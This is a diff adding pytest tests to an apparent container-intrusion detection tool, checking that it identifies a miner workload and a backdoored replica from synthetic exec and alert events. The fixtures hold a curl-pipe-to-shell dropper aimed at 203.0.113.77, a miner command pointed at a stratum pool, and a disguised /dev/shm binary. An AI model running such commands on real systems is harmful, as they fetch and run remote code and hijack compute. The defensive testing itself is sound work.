@@ -417,3 +417,56 @@ def test_a_busy_benign_cluster_is_not_an_attack(tmp_path):
     entries = H.session_entries(c_)
     assert entries["quiet"].all() and set(entries["exec_id"]) == {_id(400), _id(410)}
     c_.close()
+
+
+def _in_pod(line: str, pod: str, cid: str) -> str:
+    """An exec line of :func:`_run` moved to another pod and container (same workload)."""
+    ev = json.loads(line)
+    proc = ev["process_exec"]["process"]
+    proc["pod"] = {**proc["pod"], "name": pod, "container": {"id": "containerd://" + cid * 64, "name": "api"}}
+    proc["docker"] = (cid * 31)[:31]
+    return json.dumps(ev)
+
+
+def _critical(pid: int, rule: str, t: str, cid: str = CID[:12]) -> str:
+    line = json.loads(_alert(pid, rule, t))
+    line["priority"] = "Critical"
+    line["output_fields"]["container.id"] = cid
+    return json.dumps(line)
+
+
+def test_a_rogue_containers_main_process_is_the_session_and_its_own_key_command(tmp_path):
+    # a workload whose first process is a miner: no shell, no exec, all in the init tree
+    miner, a = _run(10, SHIM, "/usr/local/bin/metrics-helper", "--pool stratum+tcp://pool.example:4444",
+                    "2026-03-01T08:00:00Z", init=True)
+    _, b = _run(11, _ref(miner), "/bin/sh", "-c nproc", "2026-03-01T08:00:01Z", init=True)
+    lines = [a, b, _critical(10, "Detect outbound connections to common miner pool ports", "2026-03-01T08:00:02Z"),
+             _connect(miner, SHIM, 40000, "45.9.148.108", 4444, "2026-03-01T08:00:02Z")]
+    c_ = _case(tmp_path, lines)
+    f = H.derive_findings(c_)
+    assert f["basis"] == "container main process with critical alerts or a payload"
+    assert (f["attacker_pod"], f["flag_text"]) == (POD, "/usr/local/bin/metrics-helper --pool stratum+tcp://pool.example:4444")
+    assert f["flag"]["reason"].startswith("the session entry itself")
+    c_.close()
+
+
+def test_a_backdoor_every_new_replica_runs_once_is_no_routine(tmp_path):
+    # old pods of the workload run the service only; the two new pods each run the dropper once
+    lines = []
+    for i, (pod, cid, backdoored) in enumerate((("shop-api-6f7d8c9b5-bbbbb", "b", False), ("shop-api-6f7d8c9b5-ccccc", "c", False),
+                                                ("shop-api-7d8c9b5f6-ddddd", "d", True), ("shop-api-7d8c9b5f6-fffff", "f", True))):
+        base = 100 * (i + 1)
+        server, a = _run(base, SHIM, "/usr/local/bin/node", "/app/server.js", f"2026-03-01T0{8 + i}:00:00Z", init=True)
+        lines.append(_in_pod(a, pod, cid))
+        if backdoored:
+            sh, b = _run(base + 1, _ref(server), "/bin/sh", "-c 'curl -s http://203.0.113.77/x.sh | sh'",
+                         f"2026-03-01T0{8 + i}:00:10Z", init=True)
+            _, c = _run(base + 2, _ref(sh), "/dev/shm/.cache/kthreadd", "", f"2026-03-01T0{8 + i}:00:12Z", init=True)
+            lines += [_in_pod(b, pod, cid), _in_pod(c, pod, cid),
+                      _critical(base + 2, "Drop and execute new binary in container", f"2026-03-01T0{8 + i}:00:12.1Z", cid * 12)]
+    c_ = _case(tmp_path, lines)
+    f = H.derive_findings(c_)
+    assert f["flag_text"] == "/dev/shm/.cache/kthreadd"
+    assert f["attacker_pod"] in ("shop-api-7d8c9b5f6-ddddd", "shop-api-7d8c9b5f6-fffff")
+    assert "others in shop/shop-api-7d8c9b5f6-" in f["notes"][-1]  # the other new pod is named too
+    c_.close()
